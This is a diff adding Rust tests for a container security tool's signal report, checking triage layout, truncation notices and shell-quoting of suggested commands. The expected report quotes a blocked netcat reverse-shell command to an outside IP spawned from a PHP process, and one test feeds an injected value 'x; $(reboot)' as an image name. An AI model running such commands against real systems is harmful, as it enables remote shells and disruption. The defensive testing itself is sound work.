@@ -1,0 +1,111 @@
+use crate::support::*;
+
+fn report(signal: portcullis_proto::v1::Signal) -> String {
+    let node = Node::new();
+    let id = signal.id.to_string();
+    let _agent = Agent::start(&node, Data { signals: vec![signal], ..Data::default() });
+    let output = node.run(&["signals", "get", &id]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    stdout(&output)
+}
+
+#[test]
+fn follows_the_order_of_triage() {
+    let expected = "\
+Signal 7  high  blocked
+nc was executed and blocked
+
+What
+  rule          net_util_in_container
+  tool          nc
+  category      netcat
+  ATT&CK        T1095
+  time          2023-11-14T22:13:20.123456789Z
+
+Where
+  container     0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
+  containerd ns k8s.io
+  image         docker.io/library/web:1
+  pod           shop/web-0
+  in the pod    web
+  created       2023-11-14T22:12:20.123456789Z
+
+Who
+  uid, gid      33, 33
+  pid           1042 (42 in the container)
+  came from     the container's own first process
+  terminal      none
+  directory     /tmp
+  started       2023-11-14T22:13:19.123456789Z
+
+Command
+  argv          nc -e '/bin/sh -i' 203.0.113.7 4444
+                (read before the exec was final: another thread could have changed it)
+  path given    /tmp/nc
+  file          /usr/bin/nc.openbsd
+
+Lineage
+  apache2 -DFOREGROUND  [pid 1001, uid 33]
+  (/usr/sbin/apache2)
+  └─ /usr/bin/php  [pid 1020, uid 33]
+     └─ sh -c 'nc -e '\\''/bin/sh -i'\\'' 203.0.113.7 4444'  [pid 1042, uid 33]
+        (/bin/dash)
+        └─ nc -e '/bin/sh -i' 203.0.113.7 4444  [pid 1042, uid 33, same process]
+
+Recognised by
+  how           resolved_name, invoked_name
+  invoked name  nc
+
+Verdict
+  blocked: the exec failed with EPERM; the program never ran
+  policy        default
+  mode          enforce (by annotation)
+  backend       lsm
+
+Next
+  is this usual for the workload?
+    portcullis signals list --tool nc --image docker.io/library/web:1
+  what else happened around then?
+    portcullis signals list --since 2023-11-14T21:58:20Z --until 2023-11-14T22:28:20Z --oldest-first
+  contain it, if it is not
+    kubectl delete pod -n shop web-0
+";
+    assert_eq!(report(signal(7)), expected);
+}
+
+#[test]
+fn truncation_and_doubt_are_said() {
+    let mut signal = signal(7);
+    signal.lineage_truncated = true;
+    let process = signal.process.as_mut().unwrap();
+    process.argv_truncated = true;
+    process.argc = 900;
+    process.exe_truncated = true;
+    let report = report(signal);
+    for said in ["4444 …", "5 of 900 arguments", "…/usr/bin/nc.openbsd", "(older ancestors were not recorded)"] {
+        assert!(report.contains(said), "{said:?} is missing in {report}");
+    }
+}
+
+#[test]
+fn a_signal_about_a_container_needs_no_process() {
+    let mut signal = signal(7);
+    (signal.process, signal.tool, signal.lineage) = (None, None, Vec::new());
+    signal.identified_by.clear();
+    signal.rule = "container_unguarded".into();
+    let container = signal.container.as_mut().unwrap();
+    container.guarded = false;
+    container.unguarded_reason = "no cgroup v2".into();
+    let report = report(signal);
+    assert!(report.contains("container_unguarded") && report.contains("no cgroup v2"), "{report}");
+    assert!(!report.contains("Lineage") && !report.contains("Command"), "{report}");
+}
+
+/// The commands are for pasting into a root shell.
+#[test]
+fn suggested_commands_quote_what_is_hostile() {
+    let mut signal = hostile(7);
+    signal.container.as_mut().unwrap().image = "x; $(reboot)".into();
+    let report = report(signal);
+    assert!(report.contains("--image 'x; $(reboot)'\n"), "{report}");
+}
